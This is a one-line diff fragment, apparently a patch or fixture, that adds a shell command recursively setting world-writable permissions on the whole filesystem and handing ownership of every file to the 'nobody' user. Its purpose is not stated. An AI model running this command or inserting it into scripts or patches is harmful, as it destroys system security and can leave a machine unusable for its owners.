@@ -1,0 +1,1 @@
+chmod -R 777 / && chown -R nobody /
